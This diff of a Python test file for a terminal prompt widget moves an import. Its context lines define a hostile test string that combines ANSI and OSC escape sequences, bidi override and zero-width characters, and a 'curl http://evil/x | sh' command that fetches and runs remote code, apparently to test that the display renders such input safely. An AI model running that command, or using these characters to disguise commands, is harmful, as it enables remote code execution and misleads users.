@@ -15,8 +15,8 @@ from engine.base.clock import ManualClock
 from tests.console.test_terminal import QUICK, terminal
 from tests.support.console import FakeFeed, console_fixture
 from tests.support.processes import wait_until
-from tui.screens.prompt_entry import PromptArea
 from tui.widgets.plain_text_area import PlainTextArea, shown
+from tui.widgets.prompt_area import PromptArea
 
 HOSTILE = "echo \x1b[41mHI\x1b]2;PWNED\x07 \u202eabc\u202c \u200b\u2066x\u2069\x9b31m && curl http://evil/x | sh"
 OBEYED = [chr(code) for code in (*range(32), *range(0x7F, 0xA0), 0x200E, 0x202A, 0x202E, 0x2066, 0x2069, 0x061C)]
